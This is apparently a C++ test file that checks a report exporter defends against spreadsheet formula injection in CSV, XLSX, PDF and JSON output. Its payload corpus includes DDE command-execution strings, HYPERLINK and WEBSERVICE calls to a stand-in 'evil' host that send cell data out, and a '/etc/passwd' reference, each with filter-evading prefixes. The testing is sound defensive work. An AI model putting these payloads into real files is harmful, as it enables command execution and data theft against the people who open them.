// SPDX-License-Identifier: GPL-3.0-or-later
// Row 7 of what must be shown, and T11 of reliability.md: what looks like a formula stays text.
#include "core/base/file.h"
#include "core/report/report_output.h"
#include "paper_samples.h"

#include <QTemporaryDir>
#include <algorithm>
#include <catch2/catch.hpp>
#include <set>

using namespace motcua;
using namespace motcua::test;

namespace {

/// What people have typed into spreadsheets to run something, with each way to hide its first letter.
std::vector<std::string> payloads()
{
    const std::vector<std::string> bodies{"1+1",
                                          "cmd|'/C calc'!A0",
                                          "HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                                          "WEBSERVICE(\"http://evil\")",
                                          "DDE(\"cmd\";\"/C calc\";\"x\")",
                                          "IMPORTXML(\"http://evil\",\"//a\")",
                                          "SUM(A1:A9)*cmd|'x'!A1",
                                          "'file:///etc/passwd'#$passwd.A1"};
    const std::vector<std::string> starts{
        "=",   "+",   "-",   "@",       "\uFF1D",  "\uFF0B",  "\uFF0D",  "\uFF20",  " =",
        "\t=", "\r=", "\n=", "\uFEFF=", "\u200B=", "\u00A0=", "\u3000=", "\u202E=", "\u2060+",
        "\"=", "'=",  ";=",  ",=",      "=-",      "@=",      "\u00AD="};
    std::vector<std::string> all;
    for (const std::string& start : starts) {
        for (const std::string& body : bodies) {
            all.push_back(start + body);
        }
    }
    all.insert(all.end(), {"+84912345678", "-5", "001184000123", "1E5", "TRUE", "2026-11-21", "<b>x</b>",
                           "a\"b", "a;b,c\td", "=\0x"});
    return all;
}

ReportTable hostileTable()
{
    ReportTable table;
    table.name = "hostile";
    table.title = "=1+1";
    table.left = {"=cmd|'/C calc'!A0"};
    table.right = {"@SUM(1)"};
    table.subtitles = {"+1"};
    table.notes = {"-1"};
    table.columns = {{"=A1", 40, ColumnKind::Text}, {"Số", 10}};
    table.signatures = {{"=1", "=2", "=3"}};
    for (const std::string& payload : payloads()) {
        table.rows.push_back({payload, std::int64_t{7}});
    }
    return table;
}

bool isSpreadsheetHere()
{
    return std::system("command -v libreoffice >/dev/null 2>&1") == 0;
}

/// The one member of a zip file, by unzip or by Python, whichever is there.
std::string memberOf(const std::filesystem::path& zip, const std::string& member)
{
    const auto bytes = readFile(zip, 1U << 24);
    REQUIRE(bytes);
    return outputOf("python3 -c \"import sys,zipfile; sys.stdout.write(zipfile.ZipFile(sys.argv[1]).read('" +
                        member + "').decode())\" FILE",
                    *bytes);
}

} // namespace

TEST_CASE("the corpus is large enough")
{
    const auto all = payloads();
    CHECK(std::set<std::string>(all.begin(), all.end()).size() >= 200);
}

TEST_CASE("in CSV no field begins as a formula, and each is quoted")
{
    const auto csv = toCsv(hostileTable());
    REQUIRE(csv);

    CHECK(csv->substr(0, 4) == "\uFEFF\"");
    std::size_t lines = 0;
    for (std::size_t at = 3; at < csv->size(); at = csv->find("\r\n", at) + 2, ++lines) {
        const std::string line = csv->substr(at, csv->find("\r\n", at) - at);
        INFO(line);
        REQUIRE(line.front() == '"');
        REQUIRE(line.back() == '"');
        for (const char* start : {"=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D",
                                  "\uFF20", " ", "\uFEFF", "\u200B"}) {
            CHECK(line.compare(1, std::string(start).size(), start) != 0);
        }
        CHECK(std::none_of(line.begin(), line.end(), [](char c) { return c >= 0 && c < ' '; }));
    }
    CHECK(lines == payloads().size() + 1);
    CHECK(contains(*csv, "\"'+84912345678\",\"7\""));
    CHECK(contains(*csv, "\"001184000123\""));
    CHECK(contains(*csv, "\"a\"\"b\""));
}

TEST_CASE("a negative figure of ours is a figure and no formula")
{
    ReportTable table = hostileTable();
    table.rows = {{std::string("x"), std::int64_t{-5}}};

    CHECK(contains(*toCsv(table), "\"x\",\"-5\""));
}

TEST_CASE("in XLSX every text is a string cell and there is no formula and no link")
{
    const QTemporaryDir folder;
    const std::filesystem::path file = folder.path().toStdString() + "/hostile.xlsx";
    REQUIRE(writeReport(hostileTable(), ReportFormat::Xlsx, file));

    const std::string sheet = memberOf(file, "xl/worksheets/sheet1.xml");
    CHECK(contains(sheet, "<sheetData>"));
    CHECK_FALSE(contains(sheet, "<f>"));
    CHECK_FALSE(contains(sheet, "<f "));
    CHECK_FALSE(contains(sheet, "hyperlink"));
    CHECK(count(sheet, "t=\"s\"") >= static_cast<int>(payloads().size()));
    CHECK(contains(sheet, "<v>7</v>"));
    CHECK(contains(sheet, "state=\"frozen\""));
    CHECK(contains(sheet, "orientation=\"landscape\""));
}

TEST_CASE("a spreadsheet that opens the XLSX calculates nothing")
{
    if (!isSpreadsheetHere()) {
        WARN("LibreOffice is not installed: only the file's own XML was checked");
        return;
    }
    const QTemporaryDir folder;
    const std::string path = folder.path().toStdString();
    REQUIRE(writeReport(hostileTable(), ReportFormat::Xlsx, path + "/hostile.xlsx"));
    const std::string command =
        "HOME=" + path +
        " libreoffice --headless --convert-to csv:\"Text - txt - csv (StarCalc)\":44,34,76 --outdir " + path +
        " " + path + "/hostile.xlsx >/dev/null 2>&1";
    REQUIRE(std::system(command.c_str()) == 0);

    const auto csv = readFile(path + "/hostile.csv", 1U << 22);
    REQUIRE(csv);
    for (const char* text : {"=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@1+1", "+84912345678",
                             "001184000123", "'=1+1", "=-1+1"}) {
        INFO(text);
        CHECK(contains(*csv, text));
    }
    CHECK_FALSE(contains(*csv, "Err:"));
    CHECK_FALSE(contains(*csv, "#NAME?"));
    CHECK_FALSE(contains(*csv, "root:"));
}

TEST_CASE("hostile text goes through the PDF and JSON of a report as text")
{
    const auto paper = layOut(hostileTable(), PaperTemplates());
    if (!paper) {
        FAIL(paper.error().detail);
    }
    const Json json = toJson(hostileTable());

    CHECK(parseJson(dumpJson(json)));
    CHECK(json["rows"][0][0] == "=1+1");
    CHECK(paper->pageCount() > 1);
}
